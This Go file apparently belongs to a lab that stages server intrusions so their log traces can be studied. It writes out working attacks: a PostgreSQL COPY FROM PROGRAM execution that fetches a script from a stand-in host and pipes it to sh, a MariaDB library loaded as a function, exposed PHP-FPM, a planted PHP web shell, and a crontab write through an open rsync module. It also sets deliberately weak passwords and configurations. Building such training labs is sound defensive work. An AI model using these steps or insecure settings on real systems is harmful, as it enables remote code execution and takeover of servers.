package lab

import (
	"context"
	"encoding/hex"
	"fmt"
	"os"
	"strings"
)

// serverEntries come in through a server that is open to all and is told to run something.
var serverEntries = []Entry{
	{Name: "postgresql", What: "COPY … FROM PROGRAM over TCP by the superuser, whose password is postgres", Cause: "postgresql",
		Cites: []string{"inside", "account", "trace"}, Logs: []string{"/var/log/postgresql/postgresql-15-main.log"}, play: copyProgram},
	{Name: "mysql", What: "a library written with INTO DUMPFILE and made a function, by root@% whose password is 123456", Cause: "mysql",
		Cites: []string{"inside", "account", "trace"}, Logs: []string{"/var/log/mysql/general.log"}, play: loadFunction},
	{Name: "php-fpm", What: "PHP-FPM on a public port is sent a FastCGI request", Cause: "php-fpm",
		Cites: []string{"inside", "account"}, Logs: []string{"/var/log/php8.2-fpm.log"}, play: fastCGI},
	{Name: "web-shell", What: "a script below uploads/ is asked for through nginx, with a command in the request", Cause: "web-shell",
		Cites: []string{"inside", "account", "trace"}, Logs: []string{"/var/log/nginx/access.log"}, play: webShell},
	{Name: "rsync", What: "rsync writes root's crontab into a module of the whole disk that asks for no password", Cause: "rsync-write",
		Cites: []string{"open", "planted"}, Logs: []string{"/var/log/cron", "/var/log/syslog"}, play: rsyncWrite},
}

// copyProgram first tries a program that fails, as scripts that look for curl and wget do: only errors are logged by
// Debian's settings.
func copyProgram(ctx context.Context, h *Host) error {
	if err := h.open(ctx, 5432); err != nil {
		return err
	}
	if _, err := h.sh(ctx, `etc=/etc/postgresql/15/main
echo "listen_addresses = '*'" >> $etc/postgresql.conf
echo 'host all all all scram-sha-256' >> $etc/pg_hba.conf
systemctl start postgresql@15-main
until runuser -u postgres -- pg_isready -q; do sleep 0.1; done
runuser -u postgres -- psql -qc "ALTER USER postgres PASSWORD 'postgres'"`); err != nil {
		return err
	}
	return h.outside(ctx, "", fmt.Sprintf(`run() { PGPASSWORD=postgres psql -q -h %s -U postgres -c "$1"; }
run 'CREATE TABLE abroxu(t text)'
run "COPY abroxu FROM PROGRAM 'lynx -dump http://%s/x.sh | sh; exit 1'" || true
run "COPY abroxu FROM PROGRAM '%s'"`, HostV4, StubAddr, payload))
}

func loadFunction(ctx context.Context, h *Host) error {
	if err := h.open(ctx, 3306); err != nil {
		return err
	}
	const site = "[mysqld]\ngeneral_log = 1\ngeneral_log_file = /var/log/mysql/general.log\nplugin_dir = /var/lib/mysql/plugin\n"
	if err := h.lay(ctx, "/etc/mysql/mariadb.conf.d/70-site.cnf", site); err != nil {
		return err
	}
	if _, err := h.sh(ctx, `install -d -o mysql -g mysql /var/lib/mysql/plugin /var/log/mysql
systemctl restart mariadb
mariadb -e "CREATE USER root@'%' IDENTIFIED BY '123456'; GRANT ALL ON *.* TO root@'%'"`); err != nil {
		return err
	}
	from, err := h.variant(ctx, "function.so")
	if err != nil {
		return err
	}
	library, err := os.ReadFile(from)
	if err != nil {
		return err
	}
	return h.outside(ctx, fmt.Sprintf(`SELECT 0x%s INTO DUMPFILE '/var/lib/mysql/plugin/lib_lab.so';
CREATE FUNCTION lab_start RETURNS INTEGER SONAME 'lib_lab.so';
SELECT lab_start();
`, hex.EncodeToString(library)), "mariadb -h "+HostV4+" -u root -p123456")
}

// php starts the stand-in, whatever it is asked: no request says what is run.
const php = "<?php exec('" + payload + "'); ?>\n"

func fastCGI(ctx context.Context, h *Host) error {
	if err := h.open(ctx, 9000); err != nil {
		return err
	}
	if err := h.lay(ctx, "/srv/app/public/task.php", php); err != nil {
		return err
	}
	if err := h.lay(ctx, "/etc/php/8.2/fpm/pool.d/zz-port.conf", "[www]\nlisten = 0.0.0.0:9000\n"); err != nil {
		return err
	}
	if _, err := h.sh(ctx, "systemctl start php8.2-fpm"); err != nil {
		return err
	}
	return h.outside(ctx, "", "/opt/lab/world fastcgi -from "+IntruderV4+" -to "+HostV4+":9000 -script /srv/app/public/task.php")
}

const site = `server {
	listen 80;
	root /var/www/html;
	location ~ \.php$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }
}
`

func webShell(ctx context.Context, h *Host) error {
	if err := h.open(ctx, 80); err != nil {
		return err
	}
	if err := h.lay(ctx, "/etc/nginx/sites-enabled/default", site); err != nil {
		return err
	}
	if err := h.lay(ctx, "/var/www/html/uploads/thumb.php", php); err != nil {
		return err
	}
	if _, err := h.sh(ctx, "chown -R www-data /var/www/html/uploads; mkdir -p /var/log/nginx; systemctl start php8.2-fpm nginx"); err != nil {
		return err
	}
	command := strings.ReplaceAll(payload, " ", "+")
	return h.outside(ctx, "", "curl -fsS --interface "+IntruderV4+" 'http://"+HostV4+"/uploads/thumb.php?c="+command+"' >/dev/null")
}

const modules = "uid = root\ngid = root\n\n[backup]\npath = /\nread only = no\n"

func rsyncWrite(ctx context.Context, h *Host) error {
	if err := h.open(ctx, 873); err != nil {
		return err
	}
	if err := h.lay(ctx, "/etc/rsyncd.conf", modules); err != nil {
		return err
	}
	if _, err := h.sh(ctx, "systemctl start rsync"); err != nil {
		return err
	}
	if err := h.listens(ctx, 873); err != nil {
		return err
	}
	return h.outside(ctx, "* * * * * "+payload+"\n", "cat >/root/job; rsync --chmod=600 /root/job rsync://"+HostV4+"/backup"+h.Config.Cron.Spool()+"/root")
}
